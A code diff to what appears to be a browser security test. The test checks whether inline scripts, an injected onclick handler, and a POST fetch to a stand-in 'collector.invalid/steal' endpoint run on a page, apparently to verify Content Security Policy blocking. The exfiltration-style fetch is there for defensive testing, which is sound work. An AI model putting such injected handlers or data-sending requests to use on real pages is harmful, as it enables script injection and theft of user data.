@@ -19,10 +19,12 @@ for (const path of ['/', '/s']) {
       const script = document.createElement('script');
       script.textContent = 'window.__ranInline = true';
       document.body.append(script);
-      const img = document.createElement('img');
-      img.setAttribute('src', 'data:image/gif;base64,R0lGODlhAQABAAAAACw=');
-      img.setAttribute('onload', 'window.__ranHandler = true');
-      document.body.append(img);
+      // An inline handler is checked when its event comes (an image's load may never come, and
+      // Chromium 150 then reports nothing): a click that certainly comes.
+      const button = document.createElement('button');
+      button.setAttribute('onclick', 'window.__ranHandler = true');
+      document.body.append(button);
+      button.click();
       let fetched = 'sent';
       try {
         await fetch('https://collector.invalid/steal', { method: 'POST', body: 'x' });
